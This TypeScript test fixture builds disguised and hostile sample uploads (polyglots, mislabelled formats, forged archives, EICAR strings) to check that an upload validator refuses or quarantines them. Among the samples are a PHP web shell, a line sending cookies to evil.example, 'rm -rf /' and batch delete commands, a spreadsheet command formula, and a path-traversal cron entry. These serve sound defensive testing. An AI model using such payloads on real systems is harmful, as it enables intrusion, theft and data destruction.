import { eicar } from './clamd-server.ts'
import { compoundFile, disguisedFiles, goodFiles, zip } from './sample-files.ts'

/**
 * Files from somebody who means harm. `refused`: nothing is kept. `quarantined`: kept, but nobody can fetch it.
 * `attachment`: harmless, because it is only ever saved, never shown.
 */
export type Fate = 'refused' | 'quarantined' | 'attachment'
export type HostileFile = { type: string; body: Buffer; fate: Fate; announce?: object }

const { pdf, jpg, png, gif, doc, docx, txt } = goodFiles
const bytes = (text: string) => Buffer.from(text, 'latin1')
const utf8 = (text: string) => Buffer.from(text, 'utf8')
const encodeUtf16 = (text: string) =>
  Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')])
const office = 'application/vnd.openxmlformats-officedocument'
const script = '<script>fetch("/api/applications")</script>'

const contentTypes = (mainPart: string) =>
  `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${mainPart}"/></Types>`
const officeFile = (mainPart: string, more: Record<string, string> = {}) =>
  zip({ '[Content_Types].xml': contentTypes(mainPart), ...more })
const wordMain = `${office}.wordprocessingml.document.main+xml`
const as =
  (fate: Fate) =>
  (type: string, body: Buffer, announce?: object): HostileFile => ({
    type,
    body,
    fate,
    ...(announce && { announce }),
  })
const refused = as('refused')
const quarantined = as('quarantined')
const attachment = as('attachment')

const pages: Record<string, HostileFile> = {
  'an SVG with a script as PNG': refused(
    png.type,
    bytes(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
  ),
  'an SVG with a script as text': refused(txt.type, bytes(`<svg onload="alert(1)"/>`)),
  'an SVG behind an XML head as text': refused(
    txt.type,
    bytes(`<?xml version="1.0"?>\n<svg>${script}</svg>`),
  ),
  'a web page as PDF': refused(pdf.type, bytes(`<!doctype html>${script}`)),
  'a web page as Word': refused(doc.type, bytes(`<html>${script}</html>`)),
  'a web page behind spaces as text': refused(txt.type, bytes(`\n\n   \t<html>${script}`)),
  'a web page behind a byte order mark as text': refused(txt.type, utf8(`\ufeff<html>${script}`)),
  'a web page in UTF-16 as text': refused(txt.type, encodeUtf16(`<html>${script}`)),
  'a bare script as text': refused(txt.type, bytes(script)),
  'a PHP script as text': refused(txt.type, bytes('<?php system($_GET["c"]); ?>')),
  'an archived web page as text': refused(
    txt.type,
    bytes('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n'),
  ),
  'an XML bomb as text': refused(
    txt.type,
    bytes('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'),
  ),
  'an RTF document as text': refused(txt.type, bytes('{\\rtf1\\object\\objdata 0105}')),
  'an RTF document as Word': refused(doc.type, bytes('{\\rtf1\\object\\objdata 0105}')),
  'a PostScript program as PDF': refused(pdf.type, bytes('%!PS-Adobe-3.0\n(%pipe%id) (w) file\n')),
  'a PostScript program as text': refused(txt.type, bytes('%!PS\nsystemdict /run get\n')),
  'markup in UTF-7 as text': attachment(txt.type, bytes('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')),
  'a JavaScript file as text': attachment(
    txt.type,
    bytes('fetch("https://evil.example/?"+document.cookie)\n'),
  ),
  'a batch file as text': attachment(txt.type, bytes('@echo off\r\ndel /q %USERPROFILE%\r\n')),
  'a formula for a spreadsheet as text': attachment(txt.type, bytes('=cmd|"/c calc"!A1\n')),
  'a page behind a line of text': attachment(txt.type, bytes(`Dear Sirs,\n${script}`)),
}

const programs: Record<string, HostileFile> = {
  'a Java class as PDF': refused(pdf.type, bytes('\xca\xfe\xba\xbe\0\0\0\x34\0\x10')),
  'a Mac program as picture': refused(gif.type, bytes('\xcf\xfa\xed\xfe\x07\0\0\x01')),
  'a Windows shortcut as Word': refused(
    doc.type,
    Buffer.concat([bytes('L\0\0\0\x01\x14\x02\0'), Buffer.alloc(80)]),
  ),
  'a WebAssembly module as text': refused(txt.type, bytes('\0asm\x01\0\0\0')),
  'a shell script behind a byte order mark as text': refused(txt.type, utf8('\ufeff#!/bin/sh\nrm -rf /\n')),
  'a program with the name of a PDF in it': refused(pdf.type, bytes(`MZ${'\0'.repeat(60)}%PDF-1.7\n`)),
  'text with zero bytes': refused(txt.type, bytes('Hello\0World')),
  'text with an escape that drives a terminal': refused(txt.type, bytes('\x1b]0;owned\x07\x1b[2J')),
}

const archives: Record<string, HostileFile> = {
  'a 7z archive as Word': refused(docx.type, bytes('7z\xbc\xaf\x27\x1c\0\x04')),
  'a RAR archive as Word': refused(docx.type, bytes('Rar!\x1a\x07\x01\0')),
  'a gzip file as Word': refused(docx.type, bytes('\x1f\x8b\x08\0\0\0\0\0\0\x03')),
  'a Java archive as Word': refused(
    docx.type,
    zip({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil', 'Evil.class': 'x' }),
  ),
  'a presentation as Word': refused(docx.type, officeFile(`${office}.presentationml.presentation.main+xml`)),
  'a Word document with macros': refused(
    docx.type,
    officeFile('application/vnd.ms-word.document.macroEnabled.main+xml', { 'word/vbaProject.bin': 'x' }),
  ),
  'a Word template with macros': refused(
    docx.type,
    officeFile('application/vnd.ms-word.template.macroEnabledTemplate.main+xml'),
  ),
  'an old spreadsheet with macros as Word': refused(doc.type, compoundFile('_VBA_PROJECT_CUR')),
  'an archive whose directory lies about its place': refused(docx.type, forgeArchive(16, 0xffff_fff0)),
  'an archive whose directory lies about its length': refused(docx.type, forgeArchive(12, 0x7fff_ffff)),
  'an archive that is cut off': refused(docx.type, docx.body.subarray(0, docx.body.length - 30)),
  'an archive with 20,000 entries as Word': refused(docx.type, zip(manyEntries(20_000))),
  'a Word document that unpacks to 40 MB': attachment(
    docx.type,
    officeFile(wordMain, { 'word/document.xml': ' '.repeat(40 * 1024 * 1024) }),
  ),
  'a Word document with a path out of it': attachment(
    docx.type,
    officeFile(wordMain, { '../../../../etc/cron.d/evil': '* * * * * root id' }),
  ),
}

const polyglots: Record<string, HostileFile> = {
  'a GIF that is a script as well': attachment(
    gif.type,
    bytes(`GIF89a/*${'\0'.repeat(8)}*/=1;alert(document.domain)//`),
  ),
  'a PDF that is a web page as well': attachment(pdf.type, bytes(`%PDF-1.7\n<html>${script}</html>\n%%EOF`)),
  'a PDF with a script that runs when it is opened': attachment(
    pdf.type,
    bytes('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'),
  ),
  'a PDF with a program inside': attachment(
    pdf.type,
    bytes(`%PDF-1.7\n/EmbeddedFile MZ${'\0'.repeat(99)}%%EOF`),
  ),
  'a PDF that is an archive as well': attachment(
    pdf.type,
    Buffer.concat([pdf.body, zip({ 'evil.exe': 'MZ' })]),
  ),
  'a JPEG with PHP in its comment': attachment(
    jpg.type,
    Buffer.concat([
      jpg.body.subarray(0, 4),
      bytes('\xff\xfe\0\x20<?php system("id"); ?>'),
      jpg.body.subarray(4),
    ]),
  ),
  'a JPEG that is an archive as well': attachment(
    jpg.type,
    Buffer.concat([jpg.body, zip({ 'a.js': 'alert(1)' })]),
  ),
  'a PNG with a web page behind it': attachment(
    png.type,
    Buffer.concat([png.body, bytes(`<html>${script}`)]),
  ),
  'a PDF that begins late': refused(pdf.type, bytes(`junk\n\n%PDF-1.7\n${'\x01'.repeat(9)}`)),
}

const otherFormats: Record<string, HostileFile> = {
  'a HEIC photo as JPEG': refused(jpg.type, bytes('\0\0\0\x18ftypheic\0\0\0\0mif1heic')),
  'a WebP picture as PNG': refused(png.type, bytes('RIFF\x24\0\0\0WEBPVP8 ')),
  'a TIFF picture as JPEG': refused(jpg.type, bytes('II*\0\x08\0\0\0\0\0')),
  'an icon as GIF': refused(gif.type, bytes('\0\0\x01\0\x01\0\x10\x10\0\0\x01\0')),
  'a film as GIF': refused(gif.type, bytes('\0\0\0\x18ftypmp42\0\0\0\0isommp42')),
  'a Flash film as PDF': refused(pdf.type, bytes('FWS\x09\x24\0\0\0')),
}

const lies: Record<string, HostileFile> = {
  'an empty file': refused(txt.type, Buffer.alloc(0)),
  'a file of a negative size': refused(txt.type, txt.body, { fileSize: -1 }),
  'a file of half a byte': refused(txt.type, txt.body, { fileSize: 0.5 }),
  'a file of endless size': refused(txt.type, txt.body, { fileSize: 1e308 }),
  'a file whose size is a word': refused(txt.type, txt.body, { fileSize: '10' }),
  'a file announced as shorter': refused(pdf.type, pdf.body, { fileSize: pdf.body.length - 1 }),
  'a file announced as longer': refused(pdf.type, pdf.body, { fileSize: pdf.body.length + 1 }),
  'a file announced as 50 MB': refused(pdf.type, pdf.body, { fileSize: 52_428_800 }),
  'a PDF announced as a web page': refused(pdf.type, pdf.body, { mimeType: 'text/html' }),
  'a PDF announced as anything': refused(pdf.type, pdf.body, { mimeType: 'application/octet-stream' }),
  'a PDF announced with a second type': refused(pdf.type, pdf.body, {
    mimeType: 'application/pdf, text/html',
  }),
  'a PDF announced with a new line': refused(pdf.type, pdf.body, { mimeType: 'application/pdf\r\nx: y' }),
  'a PDF announced as a picture': refused(pdf.type, pdf.body, { mimeType: png.type }),
}

const viruses: Record<string, HostileFile> = {
  'the EICAR test file as text': quarantined(txt.type, eicar),
  'EICAR in a PDF': quarantined(pdf.type, Buffer.concat([pdf.body, eicar])),
  'EICAR behind a picture': quarantined(png.type, Buffer.concat([png.body, eicar])),
  'EICAR in an old Word document': quarantined(doc.type, Buffer.concat([doc.body, eicar])),
  'EICAR packed into a Word document': quarantined(
    docx.type,
    officeFile(wordMain, { 'word/document.xml': eicar.toString('latin1') }),
  ),
  'EICAR deep in 5 MB': quarantined(
    pdf.type,
    Buffer.concat([pdf.body, Buffer.alloc(5_000_000, 0x20), eicar]),
  ),
}

const known = Object.fromEntries(
  Object.entries(disguisedFiles).map(([name, file]) => [name, refused(file.type, file.body)]),
)

export const hostileFiles: Record<string, HostileFile> = {
  ...known,
  ...pages,
  ...programs,
  ...archives,
  ...polyglots,
  ...otherFormats,
  ...lies,
  ...viruses,
}

function forgeArchive(at: number, value: number): Buffer {
  const archive = Buffer.from(docx.body)
  archive.writeUInt32LE(value, archive.length - 22 + at)
  return archive
}

function manyEntries(count: number): Record<string, string> {
  const names = Array.from({ length: count }, (_, index) => [`word/${String(index).padStart(40, 'x')}`, ''])
  return { '[Content_Types].xml': contentTypes(wordMain), ...Object.fromEntries(names) }
}
